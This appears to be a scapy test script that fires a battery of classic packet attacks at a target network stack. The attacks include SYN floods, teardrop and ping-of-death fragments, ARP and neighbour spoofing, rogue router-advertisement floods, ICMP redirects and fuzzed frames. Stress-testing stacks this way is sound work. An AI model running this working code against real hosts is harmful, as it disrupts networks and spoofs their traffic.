# SPDX-License-Identifier: GPL-2.0-only
# Attacks of the books, made by scapy, on a stack: python3 attacks.py INTERFACE MAC IPV4 IPV6
import logging
import random
import sys

logging.getLogger("scapy").setLevel(logging.CRITICAL)
from scapy.layers.inet import ICMP, IP, TCP, UDP, fragment  # noqa: E402
from scapy.layers.inet6 import (ICMPv6EchoRequest, ICMPv6ND_NA, ICMPv6ND_NS, ICMPv6ND_RA,  # noqa: E402
                                ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr, ICMPv6NDOptMTU, ICMPv6NDOptPrefixInfo,
                                ICMPv6NDOptRDNSS, ICMPv6NDOptSrcLLAddr, ICMPv6PacketTooBig, IPv6,
                                IPv6ExtHdrDestOpt, IPv6ExtHdrFragment, IPv6ExtHdrHopByHop, IPv6ExtHdrRouting)
from scapy.layers.l2 import ARP, Ether  # noqa: E402
from scapy.packet import Raw, fuzz  # noqa: E402
from scapy.config import conf  # noqa: E402

interface, mac, v4, v6 = sys.argv[1:5]
random.seed(1)
wire = conf.L2socket(iface=interface)
link = Ether(dst=mac)
sent = 0


def send(frame):
    global sent
    wire.send(frame)
    sent += 1


def other():
    return "10.7.%d.%d" % (random.randrange(256), random.randrange(1, 255))


def other6():
    return "fd00:7::%x:%x" % (random.randrange(65536), random.randrange(65536))


# Land, Christmas trees, a flood of SYN from everywhere, resets and data out of nowhere.
for port in (7, 80, 9999):
    send(link / IP(src=v4, dst=v4) / TCP(sport=port, dport=port, flags="S"))
for flags in range(256):
    send(link / IP(src=other(), dst=v4) / TCP(sport=1024 + flags, dport=7, flags=flags, options=[("MSS", 0), ("WScale", 255)]))
for i in range(2000):
    send(link / IP(src=other(), dst=v4) / TCP(sport=random.randrange(1024, 65536), dport=7, seq=random.getrandbits(32), flags="S"))
    if i % 4 == 0:
        send(link / IPv6(src=other6(), dst=v6) / TCP(sport=random.randrange(1024, 65536), dport=7, flags="S"))
# Teardrop, ping of death, fragments that never end, overlap or have no middle.
send(link / IP(src=other(), dst=v4, id=1, flags="MF") / UDP(sport=1, dport=7) / Raw(b"x" * 28))
send(link / IP(src=other(), dst=v4, id=1, frag=3) / Raw(b"y" * 4))
for f in fragment(IP(src=other(), dst=v4) / ICMP() / Raw(b"z" * 65507), 1400):
    send(link / f)
send(link / IP(src=other(), dst=v4, id=2, frag=8189) / Raw(b"z" * 1400))
for i in range(1000):
    send(link / IP(src=other(), dst=v4, id=i, flags="MF", frag=random.randrange(0, 8000)) / Raw(b"q" * 512))
    send(link / IPv6(src=other6(), dst=v6) / IPv6ExtHdrFragment(id=i, m=1, offset=random.randrange(0, 8000), nh=17) / Raw(b"q" * 512))
# Extension headers without end, routing headers, a hop-by-hop header in the wrong place.
deep = IPv6(src=other6(), dst=v6)
for i in range(100):
    deep = deep / IPv6ExtHdrDestOpt()
send(link / deep / ICMPv6EchoRequest())
send(link / IPv6(src=other6(), dst=v6) / IPv6ExtHdrRouting(type=0, addresses=[v6] * 20) / ICMPv6EchoRequest())
send(link / IPv6(src=other6(), dst=v6) / IPv6ExtHdrDestOpt() / IPv6ExtHdrHopByHop() / ICMPv6EchoRequest())
# ARP and neighbours: storms, stolen addresses, a neighbour at a group's address.
for i in range(700):
    send(link / ARP(op=random.choice((1, 2, 9)), hwsrc="02:00:00:00:%02x:%02x" % (i >> 8, i & 255), psrc=other(), pdst=v4))
    send(link / IPv6(src=other6(), dst=v6, hlim=255) / ICMPv6ND_NS(tgt=v6) / ICMPv6NDOptSrcLLAddr(lladdr="02:00:00:01:%02x:%02x" % (i >> 8, i & 255)))
send(link / ARP(op=2, hwsrc="ff:ff:ff:ff:ff:ff", psrc=v4, pdst=v4))
send(link / IPv6(src=other6(), dst="ff02::1", hlim=255) / ICMPv6ND_NA(tgt=v6, R=1, O=1) / ICMPv6NDOptDstLLAddr(lladdr=mac))
# Routers by the thousand, with prefixes, name servers and an MTU of nothing.
for i in range(1000):
    router = "fe80::%x" % (i + 1)
    send(link / IPv6(src=router, dst="ff02::1", hlim=255) / ICMPv6ND_RA(routerlifetime=9000) /
         ICMPv6NDOptPrefixInfo(prefix="2001:db8:%x::" % i, prefixlen=64, validlifetime=10, preferredlifetime=10) / ICMPv6NDOptMTU(mtu=i) /
         ICMPv6NDOptRDNSS(lifetime=20, dns=["2001:db8::%x" % i]))
    send(link / IPv6(src=router, dst=v6, hlim=255) / ICMPv6ND_Redirect(tgt=router, dst=other6()))
# Errors about nothing, and MTUs that cripple.
for mtu in (0, 1, 68, 1279, 65535):
    send(link / IP(src=other(), dst=v4) / ICMP(type=3, code=4, nexthopmtu=mtu) / IP(src=v4, dst=other()) / TCP())
    send(link / IPv6(src=other6(), dst=v6) / ICMPv6PacketTooBig(mtu=mtu) / IPv6(src=v6, dst=other6()) / TCP())
# Whatever scapy thinks of.
for i in range(700):
    send(link / fuzz(IP(src=other(), dst=v4)))
    send(link / IP(src=other(), dst=v4) / fuzz(random.choice((TCP, UDP, ICMP))()))
    send(link / IPv6(src=other6(), dst=v6, hlim=255) / fuzz(random.choice((ICMPv6ND_RA, ICMPv6ND_NS, ICMPv6ND_NA, IPv6ExtHdrDestOpt, TCP))()))
    send(link / Raw(bytes(random.getrandbits(8) for _ in range(random.randrange(0, 60)))))
print(sent)
